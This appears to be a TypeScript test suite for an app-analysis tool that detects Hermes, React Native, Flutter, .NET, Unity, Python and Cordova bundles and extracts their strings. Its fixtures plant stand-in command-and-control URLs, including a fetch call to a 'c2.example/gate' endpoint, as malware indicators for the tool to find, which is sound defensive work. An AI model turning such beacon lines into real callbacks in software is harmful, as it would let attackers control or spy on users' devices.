// Code of other runtimes, told from bytes; the figures of Hermes are those of its own compilers, ten versions of them.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { bundleStringsOf, bundlesOf } from '../../../../server/engine/exploration/bundles.ts';
import { OpenedApp } from '../../../../server/engine/exploration/opened-app.ts';
import { readHermes } from '../../../../server/engine/formats/hermes/hermes-file.ts';
import { memorySource } from '../../../../server/vault/byte-source.ts';
import {
  buildAssembly,
  buildAssemblyStore,
  buildDartLibrary,
  buildFlutterEngine,
  buildHermes,
  buildMetadata,
  buildPythonArchive,
  buildRamBundle,
  buildSnapshot,
  buildTar,
  packAssembly,
  versionHash,
} from '../../../fixtures/bundle-builders.ts';
import { buildElf } from '../../../fixtures/elf-builder.ts';
import { buildZip } from '../../../fixtures/zip-builder.ts';

const golden: {
  compiled: {
    compiler: string;
    version: number;
    functions: number;
    strings: number;
    texts: string[];
    source_sha1: string;
    bytecode: string;
  }[];
} = JSON.parse(readFileSync(new URL('../../../golden/bundles/hermes.json', import.meta.url), 'utf8'));

const appOf = (files: Record<string, Uint8Array | string>) =>
  new OpenedApp(
    memorySource(buildZip({ entries: Object.entries(files).map(([name, content]) => ({ name, content })) })),
  );
const told = (files: Record<string, Uint8Array | string>) => bundlesOf(appOf(files)).results;
const stringsOf = (path: string, content: Uint8Array | string, more = {}) =>
  bundleStringsOf(appOf({ [path]: content }), { path, search: '', offset: 0, limit: 1000, ...more });
const textsOf = (path: string, content: Uint8Array | string) =>
  stringsOf(path, content).results.map(({ text }) => text);

for (const { compiler, version, functions, strings, texts, source_sha1, bytecode } of golden.compiled) {
  test(`Hermes bytecode ${version} of ${compiler}: figures and strings are those of its compiler`, () => {
    const bytes = Buffer.from(bytecode, 'base64');
    const file = readHermes(bytes);
    assert.deepEqual(
      [file.version, file.functionCount, file.stringCount, file.sourceHash, file.sources, file.faults],
      [version, functions, strings, source_sha1, ['app.js'], []],
    );
    const found = [...file.strings()];
    assert.deepEqual(
      found.map(({ text }) => text),
      texts,
    );
    const gate = found.find(({ text }) => text.startsWith('https://'))!;
    assert.equal(bytes.indexOf('https://c2.example.com'), gate.offset);
  });
}

test('Hermes bytecode is told whatever its name, with what compiles so; its strings are paged and searched', () => {
  const bytecode = Buffer.from(golden.compiled.find(({ version }) => version === 94)!.bytecode, 'base64');
  const app = appOf({
    'assets/index.android.bundle': bytecode,
    'assets/data.bin': bytecode,
    'assets/readme.txt': 'hermes',
  });
  const { results, is_cut } = bundlesOf(app);
  assert.deepEqual(
    [results.map(({ path, kind, version, size, strings }) => [path, kind, version, size, strings]), is_cut],
    [
      [
        ['assets/index.android.bundle', 'hermes', '94', bytecode.length, 22],
        ['assets/data.bin', 'hermes', '94', bytecode.length, 22],
      ],
      false,
    ],
  );
  assert.equal(results[0]!.details.find(({ name }) => name.startsWith('React Native'))!.value, '0.72');
  const ask = (more = {}) =>
    bundleStringsOf(app, { path: 'assets/data.bin', search: '', offset: 0, limit: 1000, ...more });
  // One of the 22 is empty.
  assert.deepEqual([ask().count, ask({ offset: 20, limit: 5 }).results.length, ask().is_cut], [21, 1, false]);
  assert.deepEqual(
    ask({ search: 'GATE' }).results.map(({ text }) => text),
    ['https://c2.example.com/gate.php?id=1'],
  );
  assert.throws(() => ask({ path: 'assets/readme.txt' }), { code: 'not-found' });
  assert.throws(() => ask({ path: 'assets/none' }), { code: 'not-found' });
});

test('damaged Hermes bytecode says what departs from its format, and where', () => {
  const whole = Buffer.from(golden.compiled.find(({ version }) => version === 96)!.bytecode, 'base64');
  const changed = (offset: number, value: number) => {
    const bytes = Buffer.from(whole);
    bytes.writeUInt32LE(value, offset);
    return readHermes(bytes).faults.join('; ');
  };
  assert.match(changed(32, 5), /the header says 5 bytes at 0x20, the file has \d+/);
  assert.match(changed(52, 4_000_000_000), /4000000000 strings at 0x[0-9a-f]+ end behind the file/);
  assert.match(changed(104, 0x7fffffff), /debug information at 0x7fffffff/);
  assert.match(changed(8, 200), /version 200 is newer than 99/);
  assert.match(changed(124, 1), /the hash at 0x[0-9a-f]+ is another/);
  assert.match(readHermes(whole.subarray(0, 300)).faults.join(), /the file has 300/);
  assert.throws(() => readHermes(whole.subarray(0, 100)), { code: 'truncated' });
  assert.deepEqual(told({ 'assets/a.bundle': whole.subarray(0, 100) })[0]!.faults.length, 1);
  // What its strings are is still told.
  assert.equal(stringsOf('a', whole.subarray(0, whole.length - 30)).count, 21);
});

test('strings that lie over each other or outside are bounded', () => {
  const bytes = buildHermes({ strings: ['https://a.example/', 'é'.repeat(300), 'x'.repeat(10_000)] });
  assert.deepEqual(readHermes(bytes).faults, []);
  const { results, is_cut } = stringsOf('a', bytes);
  assert.deepEqual([results.map(({ text }) => text.length), is_cut], [[18, 300, 2000], true]);
});

const script = [
  `var __BUNDLE_START_TIME__=this.nativePerformanceNow?nativePerformanceNow():Date.now(),__DEV__=false,process=this.process||{};`,
  `__d(function(g,r){var e=/'"/.test("a");r.exports={version:{major:0,minor:63,patch:4,prerelease:null}}},0,[]);`,
  `__d(function(g,r){fetch('https:\\u002f/c2.example/gate',{body:\`naïve \${e} tail\`})},1,[0]);`,
].join('\n');

test('JavaScript of React Native: its version, modules and the strings of its source with their places', () => {
  const [bundle] = told({ 'assets/index.android.bundle': script });
  assert.deepEqual([bundle!.kind, bundle!.version, bundle!.modules, bundle!.faults], ['react-native', '0.63.4', 2, []]);
  const { results, is_cut } = stringsOf('assets/index.android.bundle', script);
  assert.deepEqual(
    [results.map(({ text }) => text), is_cut],
    [['a', 'https://c2.example/gate', 'naïve ', ' tail'], false],
  );
  assert.equal(results[1]!.offset, Buffer.from(script).indexOf("'https:"));
  assert.equal(results[3]!.offset, Buffer.from(script).indexOf(' tail'));
  // A source that cannot be read on, and a text that only has the name.
  assert.equal(stringsOf('a.js', `${script}\n'no end`).is_cut, true);
  assert.deepEqual(told({ 'assets/index.android.bundle': 'var a = 1;' }), []);
});

test('RAM bundles of React Native: one file with a table, or a folder of modules', () => {
  const bytes = buildRamBundle("start('first')", ["load('https://c2.example/a')", null, 'let b = "second"']);
  const [bundle] = told({ 'assets/index.android.bundle': bytes });
  assert.deepEqual([bundle!.kind, bundle!.modules, bundle!.faults], ['react-native-ram', 2, []]);
  const { results } = stringsOf('a', bytes);
  assert.deepEqual(
    results.map(({ text }) => text),
    ['first', 'https://c2.example/a', 'second'],
  );
  assert.equal(results[2]!.offset, bytes.indexOf('"second"'));
  assert.match(
    told({ a: bytes.subarray(0, bytes.length - 4) })[0]!.faults.join(),
    /module 2 of 17 bytes at 0x[0-9a-f]+/,
  );
  const mark = Buffer.from('e5d10bfb', 'hex');
  const folder = { 'assets/js-modules/UNBUNDLE': mark, 'assets/js-modules/0.js': 'a', 'assets/js-modules/12.js': 'b' };
  assert.deepEqual(
    told({ ...folder, 'assets/other/1.js': '' }).map(({ kind, modules }) => [kind, modules]),
    [['react-native-ram', 2]],
  );
});

test('Flutter: compiled Dart by its symbols, the engine by its version, kernel code, lists of assets', () => {
  const library = buildDartLibrary(['https://c2.example/dart', 'package:app/main.dart']);
  const found = told({
    'lib/arm64-v8a/libapp.so': library,
    'lib/arm64-v8a/libflutter.so': buildFlutterEngine('3.1.0'),
    'lib/arm64-v8a/libother.so': buildElf({ soname: 'libapp.so' }),
    'assets/flutter_assets/isolate_snapshot_data': buildSnapshot([]),
    'assets/flutter_assets/kernel_blob.bin': Buffer.from('90abcdef00000069', 'hex'),
    'assets/flutter_assets/AssetManifest.json': '{"a.png":["a.png"],"b.ttf":["b.ttf"]}',
    'assets/flutter_assets/AssetManifest.bin': Buffer.from('0d0307056c2e706e67', 'hex'),
  });
  assert.deepEqual(
    found.map(({ kind, version, modules }) => [kind, version, modules]),
    [
      ['dart-snapshot', versionHash, null],
      ['flutter-engine', 'Dart 3.1.0', null],
      ['dart-snapshot', versionHash, null],
      ['dart-kernel', '105', null],
      ['flutter-assets', '', 2],
      ['flutter-assets', '', 3],
    ],
  );
  assert.deepEqual(Object.fromEntries(found[0]!.details.map(({ name, value }) => [name, value])), {
    Snapshot: 'full, with compiled code',
    Features: 'product arm64 android compressed-pointers',
    'Bytes of data': `${buildSnapshot([]).length + buildSnapshot(['https://c2.example/dart', 'package:app/main.dart']).length}`,
    Code: 'compiled, in the same library',
  });
  const { results } = stringsOf('lib/arm64-v8a/libapp.so', library, { search: 'c2.' });
  assert.deepEqual(results, [{ offset: library.indexOf('https://c2'), text: 'https://c2.example/dart' }]);
  const broken = Buffer.from(library);
  broken.write('?', library.lastIndexOf(versionHash));
  assert.match(told({ 'lib/a/libapp.so': broken })[0]!.faults.join(), /no version's hash at 0x[0-9a-f]+/);
  assert.match(
    told({ snapshot: buildSnapshot(['a long text that is cut']).subarray(0, 90) })[0]!.faults.join(),
    /a snapshot of \d+ bytes at 0x0 does not fit the file of 90 bytes/,
  );
});

test('.NET: stores of assemblies, bare or in a library, packed or not, by the strings that their code loads', () => {
  const first = buildAssembly(['https://c2.example/net', 'é'.repeat(80)]);
  const store = buildAssemblyStore([
    { name: 'App.dll', content: first },
    { name: 'Packed.dll', content: packAssembly(buildAssembly(['from the packed one'])) },
  ]);
  const [bundle] = told({ 'assemblies/assemblies.blob': store });
  assert.deepEqual(
    [bundle!.kind, bundle!.version, bundle!.modules, bundle!.details[0]!.value, bundle!.faults],
    ['dotnet-store', '2', 2, 'App.dll, Packed.dll', []],
  );
  const expected = ['https://c2.example/net', 'é'.repeat(80), 'from the packed one'];
  const { results } = stringsOf('a', store);
  assert.deepEqual(
    results.map(({ text }) => text),
    expected,
  );
  assert.deepEqual([results[0]!.offset, results[2]!.offset], [store.indexOf(Buffer.from('https', 'utf16le')), null]);
  const library = buildElf({ constants: store, constantsAt: 0x4000 });
  assert.equal(told({ 'lib/x86/libassemblies.x86.blob.so': library })[0]!.modules, 2);
  assert.deepEqual(textsOf('lib/x86/libassemblies.x86.blob.so', library), expected);
  assert.deepEqual(
    told({ 'assemblies/a.dll': first, 'assemblies/b.dll': packAssembly(first) }).map(({ kind, version }) => [
      kind,
      version,
    ]),
    [
      ['dotnet-assembly', 'v4.0.30319'],
      ['dotnet-assembly', 'v4.0.30319'],
    ],
  );
  assert.match(
    told({ a: store.subarray(0, 200) })[0]!.faults.join(),
    /2 assemblies end behind the store, App.dll at 0x/,
  );
  const bomb = packAssembly(first);
  bomb.writeUInt32LE(0x7fffffff, 8);
  assert.match(told({ a: bomb })[0]!.faults.join(), /cannot unpack to 2147483647/);
});

test('Unity by its metadata, Python by its archive, Cordova and Capacitor by their own files', () => {
  const metadata = buildMetadata(['https://c2.example/unity', 'naïve'], 7);
  const found = told({
    'assets/bin/Data/Managed/Metadata/global-metadata.dat': metadata,
    'assets/private.tar': buildPythonArchive(['https://c2.example/python']),
    'assets/www/cordova.js': "// Platform: android\nvar PLATFORM_VERSION_BUILD_LABEL = '10.1.2'; // cordova",
    'assets/www/index.html': '<html>',
    'assets/capacitor.config.json': '{"appId":"the.app","webDir":"www","server":{"url":"https://c2.example/app"}}',
    'assets/public/index.html': '<html>',
  });
  assert.deepEqual(
    found.map(({ kind, version, functions, modules, strings }) => [kind, version, functions, modules, strings]),
    [
      ['il2cpp', '29', 7, null, 2],
      ['python', 'Python 3.10', null, 1, null],
      ['cordova', '10.1.2', null, 2, null],
      ['capacitor', '', null, 1, null],
    ],
  );
  assert.equal(found[3]!.details[1]!.value, 'https://c2.example/app');
  assert.deepEqual(textsOf('a.dat', metadata), ['https://c2.example/unity', 'naïve']);
  assert.ok(textsOf('a', buildPythonArchive(['https://c2.example/python'])).includes('https://c2.example/python'));
  assert.match(
    told({ a: metadata.subarray(0, 270) })[0]!.faults.join(),
    /string literals at 0x100 and 0x110 end behind/,
  );
  const tar = buildTar([{ name: 'a.py', content: Buffer.from('import os') }]);
  tar.write('77777777777', 124);
  assert.deepEqual(told({ a: tar }), []);
});
